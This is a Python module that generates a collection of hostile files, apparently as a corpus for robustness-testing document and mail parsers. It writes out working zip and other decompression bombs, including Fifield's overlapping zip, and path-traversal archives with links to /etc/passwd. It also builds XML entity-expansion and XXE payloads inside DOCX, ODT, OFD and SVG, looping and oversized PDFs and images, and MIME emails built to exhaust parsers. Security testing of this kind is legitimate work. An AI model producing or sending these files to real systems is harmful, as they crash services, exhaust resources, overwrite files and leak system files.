"""Files made to hurt whoever reads them. Small on the wire, and each written by this module alone.

Sources: D. Fifield, "A better zip bomb" (WOOT 2019), for overlapping members; the "billion laughs" and its quadratic kin
for XML; ISO 32000-1 for PDF; RFC 2045 and 2231 for letters.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Mapping
from functools import partial
from itertools import pairwise

MB = 1_000_000

# -- archives ------------------------------------------------------------------------------


def zipped(files: Mapping[str, bytes]) -> bytes:
    """A zip as any program writes it."""
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            # OpenDocument is known by a first member that is not packed.
            archive.writestr(name, data, zipfile.ZIP_STORED if name == "mimetype" else None)
    return into.getvalue()


def flat_zip(unpacked_bytes: int = 200 * MB) -> bytes:
    """200 MB of zeros in 200 kB."""
    return zipped({"案例.docx": bytes(unpacked_bytes)})


def nested_zip(levels: int = 6, copies: int = 10) -> bytes:
    """Ten archives in each of ten, six deep: a million files in the end."""
    inner = zipped({"0.bin": bytes(MB)})
    for _ in range(levels):
        inner = zipped({f"{number}.zip": inner for number in range(copies)})
    return inner


def overlapping_zip(members: int = 1_000, kernel_bytes: int = 20 * MB) -> bytes:
    """Fifield's: every member quotes the headers of those behind it and ends in one shared kernel; 20 GB in 100 kB."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = packer.compress(bytes(kernel_bytes)) + packer.flush()
    names = [f"{number:04d}".encode() for number in range(members)]
    parts: list[bytes] = []
    directory: list[tuple[bytes, bytes, int]] = []
    crc, packed, size = zlib.crc32(bytes(kernel_bytes)), len(kernel), kernel_bytes
    later = b""
    for name in reversed(names):
        if later:
            quote = b"\x00" + struct.pack("<HH", len(later), len(later) ^ 0xFFFF)
            # The checksum of a member would have to be that of quoted headers and kernel; readers come to it last.
            packed, size = packed + len(quote) + len(later), size + len(later)
            parts.append(quote)
        common = struct.pack("<HHHHIII", 0, 8, 0, 0x5A21, crc, packed, size)
        later = b"PK\x03\x04" + struct.pack("<H", 20) + common + struct.pack("<HH", len(name), 0) + name
        directory.append((name, common, len(parts)))
        parts.append(later)
    body, offsets = b"", {}
    for number in range(len(parts) - 1, -1, -1):
        offsets[number] = len(body)
        body += parts[number]
    body += kernel
    central = b"".join(
        b"PK\x01\x02" + struct.pack("<HH", 0x0314, 20) + common
        + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0o100644 << 16, offsets[at]) + name
        for name, common, at in reversed(directory)
    )  # fmt: skip
    count = len(directory)
    return body + central + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(central), len(body), 0)


def crowded_zip() -> bytes:
    """50,000 empty members."""
    return zipped({f"{number}": b"" for number in range(50_000)})


def gzip_bomb(unpacked_bytes: int = 200 * MB) -> bytes:
    return gzip.compress(bytes(unpacked_bytes), 6, mtime=0)


def nested_gzip() -> bytes:
    return gzip.compress(gzip.compress(gzip.compress(bytes(200 * MB), 6), 9), 9)


def bzip2_bomb() -> bytes:
    return bz2.compress(bytes(45 * MB)) * 5


def xz_bomb() -> bytes:
    return lzma.compress(bytes(100 * MB), preset=0) * 3


def crowded_tar() -> bytes:
    """100,000 empty members."""
    header = tarfile.TarInfo("0").tobuf()
    return gzip.compress(header * 100_000 + bytes(1024), 6)


def seven_zip_bomb() -> bytes:
    import py7zr

    into = io.BytesIO()
    with py7zr.SevenZipFile(into, "w", filters=[{"id": py7zr.FILTER_LZMA2, "preset": 0}]) as archive:
        archive.writestr(bytes(100 * MB), "案例.docx")
    return into.getvalue()


def climbing_zip() -> bytes:
    """Names that lead out of any folder, on every system, and a link."""
    names = ("../../../escaped", "/escaped", "C:\\escaped", "..\\..\\escaped", "a/../../escaped", "CON", "nul\x00.txt")
    link = zipfile.ZipInfo("link")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w") as archive:
        for name in names:
            archive.writestr(name, b"planted")
        archive.writestr(link, "/etc/passwd")
        archive.writestr("link/escaped", b"planted")
    return into.getvalue()


def climbing_tar() -> bytes:
    """The same in a tar, with hard links, a device and a pipe."""
    into = io.BytesIO()
    with tarfile.open(fileobj=into, mode="w") as archive:
        for name in ("../../escaped", "/escaped", "a/../../escaped"):
            entry = tarfile.TarInfo(name)
            entry.size = 7
            archive.addfile(entry, io.BytesIO(b"planted"))
        for kind in (tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.FIFOTYPE):
            entry = tarfile.TarInfo(f"kind-{kind.decode()}")
            entry.type, entry.linkname = kind, "/etc/passwd"
            archive.addfile(entry)
    return into.getvalue()


# -- XML -----------------------------------------------------------------------------------

_LAUGHS = "".join(f'<!ENTITY l{one} "{f"&l{before};" * 10}">' for before, one in pairwise(range(10)))
LAUGHTER = f'<!DOCTYPE x [<!ENTITY l0 "ha">{_LAUGHS}]>'
QUADRATIC = f'<!DOCTYPE x [<!ENTITY l9 "{"a" * 100_000}">]>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>'
OUTSIDE_DTD = '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd" [<!ENTITY % p SYSTEM "file:///etc/passwd">%p;]>'
DECLARATIONS = {"laughs": LAUGHTER, "quadratic": QUADRATIC, "outside": OUTSIDE, "outside_dtd": OUTSIDE_DTD}
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Target="word/document.xml" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>'
)


def docx(body: str, declaration: str = "") -> bytes:
    """A Word file around the XML of its body."""
    main = f'<?xml version="1.0"?>{declaration}<w:document {_W}><w:body>{body}</w:body></w:document>'
    return zipped(
        {"[Content_Types].xml": _TYPES.encode(), "_rels/.rels": _RELATIONS.encode(), "word/document.xml": main.encode()}
    )


def odt(body: str, declaration: str = "") -> bytes:
    """An OpenDocument text around the XML of its body."""
    names = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    content = (
        f'<?xml version="1.0"?>{declaration}<office:document-content {names} office:version="1.2"><office:body><office:text>{body}'
        "</office:text></office:body></office:document-content>"
    )
    return zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": content.encode()})


def ofd(declaration: str) -> bytes:
    """An OFD whose first part is hostile."""
    root = (
        f'<?xml version="1.0"?>{declaration}<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0" DocType="OFD"><ofd:DocBody>'
        "<ofd:DocInfo><ofd:DocID>&l9;</ofd:DocID></ofd:DocInfo><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>"
    )
    return zipped({"OFD.xml": root.encode(), "Doc_0/Document.xml": root.encode()})


def svg(declaration: str) -> bytes:
    shape = '<svg xmlns="http://www.w3.org/2000/svg" width="900" height="600"><text>&l9;</text><image href="file:///etc/passwd"/></svg>'
    return f'<?xml version="1.0"?>{declaration}{shape}'.encode()


def deep_docx() -> bytes:
    """100,000 tables inside one another."""
    depth = 100_000
    opened, closed = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    return docx(opened * depth + "<w:p/>" + closed * depth)


def endless_docx() -> bytes:
    """20 million characters of text, in 4 million paragraphs."""
    return docx("<w:p><w:r><w:t>甲乙丙丁戊</w:t></w:r></w:p>" * 1_000_000)


# -- PDF -----------------------------------------------------------------------------------


def pdf(*objects: bytes, root: int = 1) -> bytes:
    """A PDF of these objects, numbered from 1."""
    pieces, offsets, at = [b"%PDF-1.7\n"], [], 9
    for number, each in enumerate(objects, 1):
        offsets.append(at)
        pieces.append(b"%d 0 obj\n%s\nendobj\n" % (number, each))
        at += len(pieces[-1])
    body = b"".join(pieces)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    count = len(objects) + 1
    return body + b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF" % (
        count, table, count, root, len(body),
    )  # fmt: skip


def stream(data: bytes, dictionary: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (dictionary, len(data), data)


CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<<%s>>>>"
_PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def pdf_of_loops() -> bytes:
    """Pages that are their own parents and children, and say that they are a billion."""
    return pdf(CATALOG, b"<</Type/Pages/Kids[2 0 R 3 0 R 2 0 R]/Count 1000000000/Parent 2 0 R>>", b"<</Kids[2 0 R]>>")


def pdf_that_draws_itself() -> bytes:
    """A form that draws itself, ten times each."""
    form = stream(b"/F Do " * 10, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 5 0 R>>>>")
    return pdf(CATALOG, _PAGES, _PAGE % b"/XObject<</F 5 0 R>>", stream(b"/F Do " * 10), form)


def pdf_of_filters() -> bytes:
    """A page's content, deflated three times over: 200 MB."""
    data = bytes(200 * MB)
    for _ in range(3):
        data = zlib.compress(data, 6)
    filters = b"/Filter[/FlateDecode/FlateDecode/FlateDecode]"
    return pdf(CATALOG, _PAGES, _PAGE % b"", stream(data, filters))


def pdf_of_one_page_many_times() -> bytes:
    """One page, listed 200,000 times."""
    kids = b"3 0 R " * 200_000
    return pdf(CATALOG, b"<</Type/Pages/Kids[%s]/Count 200000>>" % kids, _PAGE % b"", stream(b"0 0 9 9 re f"))


def pdf_of_strokes() -> bytes:
    """Two million strokes on one page."""
    return pdf(CATALOG, _PAGES, _PAGE % b"", stream(zlib.compress(b"0 0 9 9 re f\n" * 2 * MB), b"/Filter/FlateDecode"))


def pdf_of_glyphs() -> bytes:
    """Four million characters on one page."""
    font = b"/Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>"
    text = b"BT /F 9 Tf " + b"(%s) Tj 0 -9 Td\n" % (b"a" * 1000) * 4_000 + b"ET"
    return pdf(CATALOG, _PAGES, _PAGE % font, stream(zlib.compress(text), b"/Filter/FlateDecode"))


def pdf_of_objects() -> bytes:
    """300,000 objects that nothing uses."""
    return pdf(CATALOG, _PAGES, _PAGE % b"", stream(b""), *[b"null"] * 300_000)


# -- pictures ------------------------------------------------------------------------------


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of_area(side: int = 60_000) -> bytes:
    """3.6 thousand million pixels, all black."""
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes((side // 8 + 1) * 2_000), 9)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def png_of_words() -> bytes:
    """A small picture with 200 MB of compressed remarks and as much of a colour profile."""
    from PIL import Image

    into = io.BytesIO()
    Image.new("L", (9, 9)).save(into, "png")
    whole, packed = into.getvalue(), zlib.compress(bytes(200 * MB), 6)
    remarks = _chunk(b"iCCP", b"p\x00\x00" + packed) + _chunk(b"zTXt", b"k\x00\x00" + packed)
    return whole[:33] + remarks + whole[33:]


def tiff_of_area() -> bytes:
    """A TIFF that says it is 100,000 pixels wide and high, deflated."""
    packed = zlib.compress(bytes(MB), 9)
    entries = (
        (256, 100_000),
        (257, 100_000),
        (258, 8),
        (259, 8),
        (262, 1),
        (273, 8),
        (278, 100_000),
        (279, len(packed)),
    )
    data = b"II*\x00" + struct.pack("<I", 8 + len(packed)) + packed + struct.pack("<H", len(entries))
    return data + b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in entries) + bytes(4)


def tiff_of_pages() -> bytes:
    """A TIFF whose page is followed by itself."""
    entries = ((256, 9), (257, 9), (258, 8), (259, 1), (262, 1), (273, 8), (277, 1), (278, 9), (279, 81))
    pixels = bytes(82)
    data = b"II*\x00" + struct.pack("<I", 8 + len(pixels)) + pixels + struct.pack("<H", len(entries))
    return data + b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in entries) + struct.pack("<I", 90)


def webp_of_area() -> bytes:
    """A lossless WebP of 16,383 pixels square: 1 GB as RGBA, 34 kB here."""
    from PIL import Image

    into = io.BytesIO()
    Image.new("L", (16, 16)).save(into, "webp", lossless=True)
    data = bytearray(into.getvalue())
    at = data.index(b"VP8L") + 9
    bits = int.from_bytes(data[at : at + 4], "little") >> 28 << 28
    data[at : at + 4] = (bits | 16_382 << 14 | 16_382).to_bytes(4, "little")
    return bytes(data)


def avif_of_area() -> bytes:
    """An AVIF whose box says 60,000 pixels square."""
    from PIL import Image

    into = io.BytesIO()
    Image.new("RGB", (64, 64)).save(into, "avif")
    data = bytearray(into.getvalue())
    at = data.index(b"ispe") + 8
    data[at : at + 8] = struct.pack(">II", 60_000, 60_000)
    return bytes(data)


def gif_of_frames() -> bytes:
    """20,000 frames."""
    screen = b"GIF89a" + struct.pack("<HHBBB", 2000, 2000, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, 2000, 2000, 0) + b"\x02\x02\x4c\x01\x00"
    return screen + frame * 20_000 + b"\x3b"


# -- letters -------------------------------------------------------------------------------

_HEAD = b"From: a@example.org\r\nTo: box@example.org\r\nSubject: x\r\nMIME-Version: 1.0\r\n"


def letter_of_parts() -> bytes:
    """100,000 attachments."""
    part = b'--b\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename="a.txt"\r\n\r\na\r\n'
    return _HEAD + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + part * 100_000 + b"--b--\r\n"


def letter_of_depth() -> bytes:
    """2,000 parts inside one another."""
    levels = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n) for n in range(2_000))
    return _HEAD + levels + b"Content-Type: text/plain\r\n\r\nend\r\n"


def letter_of_headers(count: int = 1_000_000) -> bytes:
    """A million header fields."""
    return _HEAD + b"X-Field: value\r\n" * count + b"\r\nbody\r\n"


def letter_of_one_line(characters: int = 100 * MB) -> bytes:
    """One header line of 100 MB."""
    return _HEAD + b"X-Long: " + b"a" * (characters - 1_000) + b"\r\n\r\nbody\r\n"


def letter_of_parameters() -> bytes:
    """A file name in 50,000 pieces (RFC 2231)."""
    pieces = b"".join(b";\r\n filename*%d=a" % number for number in range(50_000))
    return _HEAD + b"Content-Disposition: attachment" + pieces + b"\r\n\r\nbody\r\n"


def letter_of_recipients() -> bytes:
    """200,000 recipients, and a subject of 100,000 encoded words."""
    to = b",\r\n ".join([b"=?utf-8?B?5byg?= <a@example.org>"] * 200_000)
    return (
        b"From: a@example.org\r\nTo: " + to + b"\r\nSubject: " + b"=?utf-8?Q?a?=\r\n " * 100_000 + b"x\r\n\r\nbody\r\n"
    )


def letter_of_brackets() -> bytes:
    """HTML of 100,000 open elements, and comments in an address a thousand deep."""
    page = b"<div><blockquote><table><tr><td>" * 20_000
    sender = b"From: " + b"(" * 20_000 + b" <a@example.org>\r\n"
    return sender + b"Subject: x\r\nContent-Type: text/html\r\n\r\n" + page


# -- all of them -----------------------------------------------------------------------------

FILES: dict[str, Callable[[], bytes]] = {
    **{
        make.__name__.replace("_", " "): make
        for make in (
            flat_zip, nested_zip, overlapping_zip, crowded_zip, climbing_zip, gzip_bomb, nested_gzip, bzip2_bomb, xz_bomb, crowded_tar,
            climbing_tar, seven_zip_bomb, deep_docx, endless_docx, pdf_of_loops, pdf_that_draws_itself, pdf_of_filters,
            pdf_of_one_page_many_times, pdf_of_strokes, pdf_of_glyphs, pdf_of_objects, png_of_area, png_of_words, tiff_of_area, tiff_of_pages,
            webp_of_area, avif_of_area, gif_of_frames,
        )
    },
    **{f"docx, {name}": partial(docx, "<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>" * 999, text) for name, text in DECLARATIONS.items()},
    **{f"odt, {name}": partial(odt, "<text:p>&l9;</text:p>" * 999, text) for name, text in DECLARATIONS.items()},
    **{f"ofd, {name}": partial(ofd, text) for name, text in DECLARATIONS.items()},
    **{f"svg, {name}": partial(svg, text) for name, text in DECLARATIONS.items()},
}  # fmt: skip
"""Attachments, by name."""

LETTERS: dict[str, Callable[[], bytes]] = {
    make.__name__.replace("_", " "): make
    for make in (
        letter_of_parts, letter_of_depth, letter_of_headers, letter_of_one_line, letter_of_parameters, letter_of_recipients, letter_of_brackets,
    )
}  # fmt: skip
"""Whole letters, by name."""
